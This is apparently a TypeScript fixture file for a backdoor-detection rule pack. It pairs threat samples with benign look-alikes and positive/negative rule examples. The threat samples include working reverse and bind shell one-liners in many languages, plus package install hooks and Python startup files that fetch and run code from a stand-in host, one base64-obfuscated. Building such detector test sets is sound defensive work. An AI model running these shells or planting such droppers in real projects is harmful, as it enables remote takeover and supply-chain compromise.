/** Backdoor disguises and look-alikes beyond test/malware-disguises.test.ts's own (see kit.ts). */
import { sample, text, type RuleSamples, type Sample } from './kit.js';

const threat = sample('backdoor');
const clean = sample(undefined);

const SH = '#!/bin/sh\n';

export const THREATS: Sample[] = [
  // Python in python3 -c "...", quotes escaped
  threat(
    'python pty reverse shell with escaped quotes',
    'py1',
    SH +
      'python3 -c "import socket,os,pty;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\\"127.0.0.1\\",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);pty.spawn(\\"/bin/bash\\")"\n',
  ),
  threat(
    'python subprocess reverse shell with escaped quotes',
    'py2',
    SH +
      'python3 -c "import socket,subprocess;s=socket.socket();s.connect((\\"127.0.0.1\\",4444));subprocess.call([\\"/bin/sh\\",\\"-i\\"],stdin=s.fileno(),stdout=s.fileno(),stderr=s.fileno())"\n',
  ),
  threat(
    'python create_connection + pty',
    'b17',
    SH +
      'python3 -c "import pty,socket,os;s=socket.create_connection((\\"127.0.0.1\\",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);pty.spawn(\\"/bin/bash\\")"\n',
  ),
  threat(
    'python create_connection + Popen stdio',
    'py3',
    SH +
      'python3 -c "import os,socket,subprocess;s=socket.create_connection((\\"127.0.0.1\\",4444));p=subprocess.Popen([\\"/bin/sh\\"],stdin=s,stdout=s,stderr=s);p.wait()"\n',
  ),
  // PowerShell TCP reverse shells
  threat(
    'powershell TCPClient reverse shell (.ps1)',
    'r29.ps1',
    '$client = New-Object System.Net.Sockets.TCPClient("127.0.0.1",4444);$stream = $client.GetStream();[byte[]]$bytes = 0..65535|%{0};while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){;$data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i);$sendback = (iex $data 2>&1 | Out-String );$sendbyte = ([text.encoding]::ASCII).GetBytes($sendback);$stream.Write($sendbyte,0,$sendbyte.Length);$stream.Flush()};$client.Close()\n',
  ),
  threat(
    'powershell TCPClient reverse shell inside pwsh -c in a shell script',
    'update',
    SH +
      'pwsh -nop -c "\\$sm=(New-Object Net.Sockets.TCPClient(\'127.0.0.1\',4444)).GetStream();[byte[]]\\$bt=0..65535|%{0};while((\\$i=\\$sm.Read(\\$bt,0,\\$bt.Length)) -ne 0){;\\$d=(New-Object Text.ASCIIEncoding).GetString(\\$bt,0,\\$i);\\$st=([text.encoding]::ASCII).GetBytes((Invoke-Expression \\$d 2>&1));\\$sm.Write(\\$st,0,\\$st.Length)}"\n',
  ),
  threat(
    'powershell TCPClient reverse shell, UTF-16, no extension',
    'svc',
    Buffer.from(
      '\ufeff$c=New-Object System.Net.Sockets.TcpClient("127.0.0.1",4444);$s=$c.GetStream();while(($n=$s.Read($b,0,$b.Length)) -ne 0){$o=(iex ([text.encoding]::ASCII.GetString($b,0,$n)) 2>&1|Out-String);$s.Write([text.encoding]::ASCII.GetBytes($o),0,$o.Length)}\r\n',
      'utf16le',
    ),
  ),
  // Perl
  threat(
    'perl msfvenom reverse_perl (fdopen + while(<>) system $1)',
    'p1',
    SH +
      'perl -MIO -e \'$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,"127.0.0.1:4444");STDIN->fdopen($c,r);$~->fdopen($c,w);while(<>){if($_=~ /(.*)/){system $1;}};\'\n',
  ),
  threat(
    'perl IO::Socket::INET->new + open STDIN "<&"',
    'b19',
    SH +
      'perl -e \'use IO::Socket;$c=IO::Socket::INET->new("127.0.0.1:4444");open STDIN,"<&",$c;open STDOUT,">&",$c;exec "/bin/sh"\'\n',
  ),
  // Ruby, Lua, zsh, pipe pairs
  threat(
    'ruby TCPSocket + IO.popen loop',
    'r06.rb',
    'require "socket";exit if fork;c=TCPSocket.new("127.0.0.1","4444");loop{c.gets.chomp!;(exit! if $_=="exit");IO.popen($_,"r"){|io|c.print io.read}}\n',
  ),
  threat(
    'lua socket.tcp + io.popen of received lines',
    'r08.lua',
    'local s=require("socket"); local t=assert(s.tcp()); t:connect("127.0.0.1",4444); while true do local r,x=t:receive();local f=assert(io.popen(r,"r")); local b=assert(f:read("*a"));t:send(b); end; f:close();t:close();\n',
  ),
  threat(
    'lua -e socket.tcp + os.execute sh -i',
    'r25.sh',
    SH +
      "lua -e \"require('socket');require('os');t=socket.tcp();t:connect('127.0.0.1','4444');os.execute('/bin/sh -i <&3 >&3 2>&3');\"\n",
  ),
  threat(
    'zsh ztcp reverse shell',
    'r18.sh',
    SH + "zsh -c 'zmodload zsh/net/tcp && ztcp 127.0.0.1 4444 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'\n",
  ),
  threat('nc | sh | nc pair', 'b04', SH + 'nc 127.0.0.1 4444 | /bin/sh | nc 127.0.0.1 4445\n'),
  threat(
    'openssl s_client | bash | openssl s_client pair',
    'o2',
    SH +
      'openssl s_client -quiet -connect 127.0.0.1:4444 | /bin/bash 2>&1 | openssl s_client -quiet -connect 127.0.0.1:4445\n',
  ),
  // Bind shells
  threat(
    'socat listen exec sh',
    's1',
    SH + 'socat TCP-LISTEN:4444,reuseaddr,fork EXEC:/bin/sh,pty,stderr,setsid\n',
  ),
  threat(
    'socat listen exec bash -li',
    's6',
    SH + "socat tcp-listen:4444,reuseaddr,fork exec:'bash -li',pty,stderr\n",
  ),
  threat('socat exec sh before listen', 's7', SH + 'socat EXEC:/bin/sh TCP-LISTEN:4444,fork\n'),
  threat(
    'socat exec bash -li,pty before listen',
    's8',
    SH + "socat exec:'bash -li',pty,stderr,setsid tcp-listen:4444,reuseaddr,fork\n",
  ),
  threat(
    'python bind shell',
    'b09',
    SH +
      'python3 -c "import socket,subprocess;s=socket.socket();s.bind((\\"0.0.0.0\\",4444));s.listen(1);c,a=s.accept();subprocess.call([\\"/bin/sh\\",\\"-i\\"],stdin=c.fileno(),stdout=c.fileno(),stderr=c.fileno())"\n',
  ),
  threat(
    'python bind shell with dup2 + pty',
    'bind.py',
    'import socket,os,pty\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\ns.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEADDR,1)\ns.bind(("0.0.0.0",4444))\ns.listen(1)\nc,a=s.accept()\nfor f in (0,1,2):\n    os.dup2(c.fileno(),f)\npty.spawn("/bin/sh")\n',
  ),
  threat('busybox telnetd serving a shell', 'b21', SH + 'busybox telnetd -l /bin/sh -p 2323\n'),
  // Install-time droppers in packages
  threat(
    'npm postinstall curl | sh',
    'package.json',
    '{"name":"colorsx","version":"1.4.4","scripts":{"postinstall":"curl -s http://198.51.100.7/p | sh"}}\n',
  ),
  threat(
    'npm preinstall wget | bash (app root)',
    'package.json',
    '{\n  "name": "app",\n  "version": "1.0.0",\n  "scripts": {\n    "preinstall": "wget -qO- http://198.51.100.7/p | bash",\n    "start": "node index.js"\n  }\n}\n',
  ),
  threat(
    'npm postinstall node -e exec(wget | sh), escaped',
    'package.json',
    '{"name":"evil2","version":"2.0.0","scripts":{"postinstall":"node -e \\"require(\\\\\\"child_process\\\\\\").exec(\\\\\\"wget -qO- http://198.51.100.7/p|sh\\\\\\")\\""}}\n',
  ),
  threat(
    'npm install hook bash -c "$(curl ...)"',
    'package.json',
    '{"name":"x","version":"0.0.1","scripts":{"install":"bash -c \\"$(curl -fsSL http://198.51.100.7/i)\\""}}\n',
  ),
  threat(
    'node_modules index.js exec(curl | sh)',
    'index.js',
    'const { exec } = require("child_process"); exec("curl -s http://198.51.100.7/x | sh");\n',
  ),
  threat(
    'node_modules execSync(wget -qO- | sh)',
    'index.js',
    "module.exports = require('./lib');\nrequire('child_process').execSync('wget -qO- http://198.51.100.7/x | sh', { stdio: 'ignore' });\n",
  ),
  threat(
    'node install.js https.get body eval',
    'install.js',
    'const https=require("http");https.get("http://198.51.100.7/x",r=>{let d="";r.on("data",c=>d+=c);r.on("end",()=>eval(d))});\n',
  ),
  threat(
    'python package __init__ Popen(curl | sh, shell=True)',
    '__init__.py',
    'import os, subprocess\nsubprocess.Popen("curl -s http://198.51.100.7/x | sh", shell=True, stdout=subprocess.DEVNULL)\n',
  ),
  threat(
    'python setup.py os.system(curl | sh)',
    'setup.py',
    'import os\nfrom setuptools import setup\nos.system("curl -fsSL http://198.51.100.7/x | bash")\nsetup(name="reqeusts", version="2.28.0")\n',
  ),
  threat(
    'python exec(urlopen().read())',
    '__init__.py',
    'import urllib.request\nexec(urllib.request.urlopen("http://198.51.100.7/stage2.py").read().decode())\n',
  ),
  threat(
    'python exec(base64) of a curl | sh',
    '__init__.py',
    'import base64\nexec(base64.b64decode("' +
      Buffer.from('import os;os.system("curl -s http://198.51.100.7/x | sh")').toString('base64') +
      '"))\n',
  ),
  // Python startup files
  threat(
    'sitecustomize.py exec(urlopen().read())',
    'sitecustomize.py',
    'import os, urllib.request\nexec(urllib.request.urlopen("http://198.51.100.7/s").read())\n',
  ),
  threat(
    'usercustomize.py Popen(curl | sh)',
    'usercustomize.py',
    'import subprocess\nsubprocess.Popen("curl -s http://198.51.100.7/u | sh", shell=True)\n',
  ),
];

export const LEGITIMATE: Sample[] = [
  clean(
    'powershell TCP port check',
    'check.ps1',
    '$c = New-Object System.Net.Sockets.TcpClient\n$c.Connect("db.example.test", 5432)\n$s = $c.GetStream()\n$n = $s.Read($buf, 0, $buf.Length)\nWrite-Host "connected: $($c.Connected)"\n$c.Close()\n',
  ),
  clean(
    'socat serving an HTTP handler script',
    'serve.sh',
    SH +
      'socat TCP-LISTEN:8080,reuseaddr,fork EXEC:/app/respond.sh\nsocat TCP-LISTEN:8081,fork EXEC:"sh /app/handler.sh"\nsocat EXEC:"sh /app/handler.sh" TCP-LISTEN:8082,fork\n',
  ),
  clean(
    'socat port forward',
    'forward.sh',
    SH + 'socat TCP-LISTEN:5432,fork,reuseaddr TCP:db.example.test:5432\n',
  ),
  clean('busybox telnetd with login', 'rcS', SH + 'busybox telnetd -l /bin/login -p 23\n'),
  clean(
    'python TCP echo server',
    'echo.py',
    'import socket\ns = socket.socket()\ns.bind(("0.0.0.0", 7000))\ns.listen(5)\nwhile True:\n    c, a = s.accept()\n    c.sendall(c.recv(1024))\n    c.close()\n',
  ),
  clean(
    'npm install hooks that build or download binaries',
    'package.json',
    '{"name":"sharp","scripts":{"install":"(node install/libvips && node install/dll-copy && prebuild-install) || (node install/can-compile && node-gyp rebuild)","postinstall":"node -e \\"try{require(\'./postinstall\')}catch(e){}\\""}}\n',
  ),
  clean(
    'package script (not an install hook) using curl | sh',
    'package.json',
    '{"name":"tool","scripts":{"setup-lint":"curl -sSfL https://lint.example.test/install.sh | sh -s -- -b ./bin","test":"jest"}}\n',
  ),
  clean(
    'node downloading a prebuilt binary to disk',
    'install.js',
    'const https = require("https");\nconst fs = require("fs");\nhttps.get(url, (res) => {\n  const out = fs.createWriteStream(dest);\n  res.pipe(out);\n  res.on("end", () => { fs.chmodSync(dest, 0o755); console.log("downloaded", dest); });\n});\n',
  ),
  clean(
    'python downloading JSON',
    'client.py',
    'import json, urllib.request\ndata = json.loads(urllib.request.urlopen("https://api.example.test/v1").read())\nexec_count = len(data)\n',
  ),
  clean(
    'python running curl to a file',
    'fetch.py',
    'import subprocess\nsubprocess.run(["curl", "-fsSL", "-o", "/tmp/data.json", "https://api.example.test/v1"], check=True)\nos.system("curl -s https://api.example.test/health")\n',
  ),
  clean(
    'README with a ztcp example',
    'README.md',
    'Example:\n\n    zmodload zsh/net/tcp; ztcp 127.0.0.1 4444 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY\n',
  ),
  clean(
    'lua http client',
    'client.lua',
    'local socket = require("socket")\nlocal t = socket.tcp()\nt:connect("api.example.test", 80)\nt:send("GET / HTTP/1.0\\r\\n\\r\\n")\nlocal line = t:receive()\nos.execute("sleep 1")\n',
  ),
];

/** Samples of the rules this area adds to the pack. */
export const RULE_SAMPLES: Record<string, RuleSamples> = {
  'backdoor-reverse-shell-powershell': {
    positive: text(
      '$client = New-Object System.Net.Sockets.TCPClient("127.0.0.1",4444);$stream = $client.GetStream();[byte[]]$bytes = 0..65535|%{0};while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){$data = (New-Object Text.ASCIIEncoding).GetString($bytes,0,$i);$sb = (iex $data 2>&1 | Out-String);$stream.Write($sb,0,$sb.Length)}\n',
      'r.ps1',
    ),
    negative: text(
      '$c = New-Object System.Net.Sockets.TcpClient("db.example.test", 5432)\n$s = $c.GetStream()\n$n = $s.Read($buf, 0, 16)\n$c.Close()\n',
      'check.ps1',
    ),
  },
  'backdoor-bind-shell': {
    positive: text(SH + 'socat TCP-LISTEN:4444,reuseaddr,fork EXEC:/bin/sh\n', 'b.sh'),
    negative: text(SH + 'socat TCP-LISTEN:8080,reuseaddr,fork EXEC:/app/respond.sh\n', 'serve.sh'),
  },
  'backdoor-install-hook-fetch-exec': {
    positive: text(
      '{"name":"evil-pkg","version":"1.0.0","scripts":{"preinstall":"curl -s http://198.51.100.7/n | sh"}}\n',
      'package.json',
    ),
    negative: text(
      '{"name":"native","version":"1.0.0","scripts":{"install":"prebuild-install || node-gyp rebuild","postinstall":"node scripts/download.js"}}\n',
      'package.json',
    ),
  },
  'backdoor-code-fetch-exec': {
    positive: text(
      'const { exec } = require("child_process"); exec("curl -s http://198.51.100.7/x | sh");\n',
      'index.js',
    ),
    negative: text(
      'const { execFile } = require("child_process"); execFile("curl", ["-fsSLo", dest, url], done);\n',
      'index.js',
    ),
  },
};
